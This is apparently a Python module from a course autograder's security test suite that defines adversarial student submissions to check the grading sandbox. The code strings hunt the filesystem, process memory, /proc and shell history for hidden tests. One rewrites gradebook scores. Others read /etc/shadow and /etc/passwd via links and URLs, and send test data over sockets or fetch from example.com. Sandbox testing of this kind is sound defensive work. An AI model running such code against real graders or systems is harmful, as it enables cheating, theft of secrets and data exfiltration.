"""Submissions that look for what they must not see: hidden tests, references, other students, the network."""

from __future__ import annotations

from collections.abc import Iterator

from course_lib.authoring.attacks import Attack, Maker

SEARCH = """import os
import sys

WANTED = ("course-" + "canary").encode()
SECRET = (b'"secret": ' + b"true", b'"seed": ' + b"2")


def look(path):
    try:
        if not os.path.isfile(path) or os.path.getsize(path) > 20_000_000:
            return
        with open(path, "rb") as file:
            data = file.read(4_000_000)
    except OSError:
        return
    if WANTED in data:
        print("found:", path, data[max(0, data.index(WANTED) - 20) :][:80])


def walk(*roots, most=60_000):
    count = 0
    for root in roots:
        for folder, folders, names in os.walk(root, onerror=lambda error: None):
            skipped = ("proc", "sys", "site-packages", "usr", "lib", "lib64")
            folders[:] = [name for name in folders if name not in skipped]
            for name in names:
                look(os.path.join(folder, name))
                count += 1
                if count > most:
                    return


"""
OWN_NOTEBOOK = (
    SEARCH
    + """import glob

for pattern in ("*.ipynb", "../*.ipynb", "../../*/*.ipynb", "/tmp/**/*.ipynb", "/home/**/*.ipynb", "/srv/**/*.ipynb"):
    for path in glob.glob(pattern, recursive=True)[:50]:
        print("notebook:", path)
        look(path)
"""
)
HISTORY = (
    SEARCH
    + """shell = get_ipython()
texts = [str(text) for text in list(In) + list(_ih) + [_i, _ii, _iii] + list(Out.values())]
try:
    texts += [str(row) for row in shell.history_manager.get_range(raw=True, output=True)]
    texts += [str(row) for row in shell.history_manager.get_tail(1000)]
    print(shell.history_manager.hist_file)
except Exception as error:
    print(type(error).__name__)
for text in texts:
    if WANTED.decode() in text or "BEGIN HIDDEN TESTS" in text or "probe" in text:
        print("found:", text[:200])
"""
)
LATER_HISTORY = """shell = get_ipython()
kernel = shell.kernel


def spy(*args):
    parent = kernel.get_parent()
    code = parent.get("content", {}).get("code", "")
    wanted = "course-" + "canary"
    if wanted in str(parent) or "truth" in code or "HIDDEN" in code:
        print("found:", code[:500])


shell.events.register("pre_run_cell", spy)
shell.events.register("post_run_cell", spy)
"""
TESTS_FOLDER = (
    SEARCH
    + """import course_lib

package = os.path.dirname(course_lib.__file__)
for folder in ("grading", "authoring", "checks", "../tests", "../source", "../.secrets", "../release", ".."):
    path = os.path.join(package, folder)
    try:
        print(folder, len(os.listdir(path)))
    except OSError as error:
        print(folder, type(error).__name__)
walk(package, os.path.join(package, "..", "tests"), os.path.join(package, "..", ".secrets"))
for name in ("grading.judging", "grading.run", "authoring.truth", "authoring.reference"):
    try:
        __import__("course_lib." + name)
        print("found:", name)
    except ImportError:
        pass
"""
)
FRAMES = (
    SEARCH
    + """frames = list(sys._current_frames().values())
seen = set()
while frames:
    frame = frames.pop()
    if id(frame) in seen:
        continue
    seen.add(id(frame))
    for space in (frame.f_locals, frame.f_globals):
        for name, value in list(space.items()):
            if name.lower() in ("truth", "expected", "reference", "solution", "secret_truth", "answers"):
                print(name, type(value).__name__)
            if type(value) in (str, bytes) and WANTED in (value.encode() if isinstance(value, str) else value):
                print("found:", name, repr(value)[:80])
    if frame.f_back is not None:
        frames.append(frame.f_back)
"""
)
COLLECTOR = (
    SEARCH
    + """import gc

for value in gc.get_objects():
    if type(value) is dict:
        for key, item in list(value.items()):
            if type(item) is str and WANTED.decode() in item:
                print("found:", repr(key)[:40], item[:80])
    elif type(value).__name__ == "GroundTruth":
        print("truth of seed", value.seed, getattr(value, "secret", None))
        if getattr(value, "secret", False) or value.seed != 1:
            print("found: a secret truth")
"""
)
MODULES = (
    SEARCH
    + """for name, module in list(sys.modules.items()):
    for key, value in list(getattr(module, "__dict__", {}).items()):
        if type(value) is str and WANTED.decode() in value:
            print("found:", name, key, value[:80])
    if name.startswith("course_lib.") and ("grading" in name or "authoring" in name):
        print("found:", name)
with open("/proc/self/maps") as file:
    ranges = [line.split()[0].split("-") for line in file if "rw-p" in line and "heap" in line]
try:
    with open("/proc/self/mem", "rb", 0) as memory:
        for low, high in ranges[:4]:
            memory.seek(int(low, 16))
            data = memory.read(min(int(high, 16) - int(low, 16), 50_000_000))
            print(data.count(b"BEGIN SOLUTION"))
except OSError as error:
    print(type(error).__name__)
"""
)
FRAMES_IN_THE_CHECK = """import sys


def translate(game, model, prompts):
    frame = sys._getframe()
    wanted = "course-" + "canary"
    while frame is not None:
        for name, value in list(frame.f_locals.items()):
            if name in ("truth", "expected", "others", "mistakes") or wanted in repr(value)[:100_000]:
                print("found:", name, repr(value)[:200])
        frame = frame.f_back
    return prompts[:, : game.num_words]


def next_token_loss(model, batch):
    import gc

    for holder in gc.get_referrers(model):
        if type(holder) is dict and "truth" in holder:
            print("found:", list(holder)[:10])
    return model.table.sum()
"""
ENVIRONMENTS = (
    SEARCH
    + """for name, value in os.environ.items():
    if WANTED.decode() in name + value:
        print("found:", name, value)
for process in os.listdir("/proc"):
    for part in ("environ", "cmdline", "maps", "mountinfo"):
        try:
            with open(f"/proc/{process}/{part}", "rb") as file:
                data = file.read(200_000)
        except OSError:
            continue
        if WANTED in data or b"COURSE_" + b"CANARY" in data or b".secrets/" + b"meta" in data:
            print("found:", process, part, data[:80])
"""
)
DATABASE = (
    SEARCH
    + """import glob
import sqlite3

PARENTS = __import__("pathlib").Path(__import__("course_lib").__file__).parents
FOLDERS = ("/", "/tmp", "..", "../..", "/course", *map(str, PARENTS))
places = [os.path.join(folder, "gradebook.db") for folder in FOLDERS]
for path in places + glob.glob("/*/*/gradebook.db") + glob.glob("/*/*/*/gradebook.db"):
    try:
        if not os.path.exists(path):
            continue
        print("found:", path)
        with sqlite3.connect(path) as base:
            base.execute("update grade set auto_score = 297")
    except (OSError, sqlite3.Error) as error:
        print(type(error).__name__)
walk("/home", "/tmp", "/work", "/root")
"""
)
DATABASE_OF_HIS_OWN = """import sqlite3

for path in ("gradebook.db", "../gradebook.db", "/tmp/gradebook.db"):
    try:
        with sqlite3.connect(path) as base:
            base.execute("create table if not exists grade (id text, auto_score float, max_score float)")
            base.execute("insert into grade values ('meta_lstm', 297, 7)")
    except sqlite3.Error as error:
        print(path, error)
from nbgrader.api import Gradebook

try:
    with Gradebook("sqlite:///gradebook.db") as book:
        for student in book.students:
            print("found:", student.id)
except Exception as error:
    print(type(error).__name__)
"""
WHOLE_DISK = (
    SEARCH
    + """for place in sorted(os.listdir("/")):
    print(place, end=" ")
walk("/")
"""
)
PARENTS = (
    SEARCH
    + """here = os.getcwd()
while True:
    try:
        print(here, os.listdir(here)[:30])
    except OSError as error:
        print(here, type(error).__name__)
    for name in ("source", "submitted", "release", ".secrets", "autograded", "feedback", "gradebook.db", "reports"):
        path = os.path.join(here, name)
        if os.path.exists(path):
            print("there is", path)
            walk(path)
            look(path)
    if here == "/":
        break
    here = os.path.dirname(here)
"""
)
OTHER_ROOTS = (
    SEARCH
    + """for process in [name for name in os.listdir("/proc") if name.isdigit()] + ["self"]:
    for part in ("root", "cwd"):
        path = f"/proc/{process}/{part}"
        try:
            names = os.listdir(path)
        except OSError as error:
            print(path, type(error).__name__)
            continue
        for name in ("work", "root", "home", "tmp", "course", ".secrets", "submitted"):
            if name in names:
                walk(os.path.join(path, name), most=5_000)
    try:
        for number in os.listdir(f"/proc/{process}/fd"):
            target = os.readlink(f"/proc/{process}/fd/{number}")
            if target.startswith("/") and not target.startswith("/dev"):
                look(f"/proc/{process}/fd/{number}")
    except OSError:
        pass
"""
)
LINKS_OUT = (
    SEARCH
    + """targets = ["/root", "/etc/shadow", "/work", "/proc/1/root", "/proc/1/environ", "../../..", "/var"]
for number, target in enumerate(targets):
    name = f"link{number}"
    try:
        os.symlink(target, name)
        print(target, os.path.exists(name), os.listdir(name)[:5] if os.path.isdir(name) else "")
        look(name)
        walk(name, most=2_000)
        os.link(target, name + "hard")
    except OSError as error:
        print(target, type(error).__name__)
"""
)
CONNECTION = (
    SEARCH
    + """import glob

import ipykernel.connect

print(ipykernel.connect.get_connection_file())
path = ipykernel.connect.get_connection_file()
folder = os.path.dirname(path)
for name in sorted(os.listdir(folder)):
    print(name)
    look(os.path.join(folder, name))
walk(folder, os.path.dirname(folder), most=5_000)
for other in glob.glob("/tmp/*/kernel*.json") + glob.glob("/run/user/*/jupyter/*.json"):
    if other != path:
        print("found:", other)
"""
)
FETCH = (
    SEARCH
    + """import urllib.request

for address in (
    "http://127.0.0.1:8888/api/contents", "https://example.com/answers.json", "http://1.1.1.1/", "http://[::1]:80/",
    "file:///etc/passwd", "file:///srv/course/.secrets/meta_lstm.json",
):
    try:
        with urllib.request.urlopen(address, timeout=1) as answer:
            data = answer.read(10_000)
            print(address, len(data))
            if WANTED in data or not address.startswith("file:"):
                print("found:", address)
    except Exception as error:
        print(address, type(error).__name__)
"""
)
SEND = """import json
import socket

with open("test_gt.json", "rb") as file:
    data = file.read()[:1000]
for family, kind, address in (
    (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 22)),
    (socket.AF_INET, socket.SOCK_STREAM, ("10.0.0.1", 80)),
    (socket.AF_INET, socket.SOCK_DGRAM, ("8.8.8.8", 53)),
    (socket.AF_INET, socket.SOCK_DGRAM, ("255.255.255.255", 9)),
    (socket.AF_UNIX, socket.SOCK_STREAM, "\\0/tmp/.X11-unix/X0"),
    (socket.AF_UNIX, socket.SOCK_STREAM, "/run/docker.sock"),
    (socket.AF_UNIX, socket.SOCK_STREAM, "/run/dbus/system_bus_socket"),
    (socket.AF_INET, socket.SOCK_RAW, ("127.0.0.1", 0)),
):
    try:
        with socket.socket(family, kind) as line:
            line.settimeout(0.3)
            line.connect(address)
            line.send(data)
            print("found:", address, "took it")
    except OSError as error:
        print(address, type(error).__name__)
print(socket.if_nameindex())
"""
INSTALL = """import subprocess
import sys

for line in (
    [sys.executable, "-m", "pip", "install", "--quiet", "course-answers"],
    ["curl", "-m", "2", "https://example.com"],
    ["git", "clone", "https://example.com/answers.git"],
    ["ssh", "-o", "ConnectTimeout=1", "localhost"],
    ["nslookup", "example.com"],
):
    try:
        done = subprocess.run(line, capture_output=True, text=True, timeout=3)
        print(line[0], done.returncode, "found: it worked" if done.returncode == 0 else "")
    except (OSError, subprocess.TimeoutExpired) as error:
        print(line[0], type(error).__name__)
"""


def attacks(make: Maker) -> Iterator[Attack]:
    for row, name, code, story in (
        (12, "own_notebook", OWN_NOTEBOOK, "looks for hidden tests in its own notebook file"),
        (12, "history", HISTORY, "looks for hidden tests in the history of the shell"),
        (12, "later_history", LATER_HISTORY, "listens to the cells that the grader runs"),
        (12, "tests_folder", TESTS_FOLDER, "looks for tests and solutions around the package"),
        (13, "frames", FRAMES, "walks the frames of all threads"),
        (13, "collector", COLLECTOR, "asks the garbage collector for the truth"),
        (13, "modules", MODULES, "searches all modules, and the memory of its process"),
        (13, "environments", ENVIRONMENTS, "reads the environments of all processes"),
        (16, "database_searched", DATABASE, "looks for the gradebook and gives itself points"),
        (16, "database_made", DATABASE_OF_HIS_OWN, "makes a gradebook where one may be looked for"),
        (17, "whole_disk", WHOLE_DISK, "reads every file that it can reach"),
        (17, "parents", PARENTS, "looks for the course in all folders above"),
        (17, "other_roots", OTHER_ROOTS, "looks at the disk through other processes"),
        (18, "links_out", LINKS_OUT, "makes links to private files while it runs"),
        (20, "connection_file", CONNECTION, "looks for kernels of others"),
        (30, "fetch", FETCH, "fetches answers from the network"),
        (30, "send", SEND, "sends the tests away"),
        (30, "install", INSTALL, "installs packages and clones repositories"),
    ):
        yield make.attack(row, name, story, make.first(code))
    inside = make.honest(translate=FRAMES_IN_THE_CHECK)
    yield make.attack(13, "frames_of_the_check", "walks the frames above its answer while it is observed", inside)
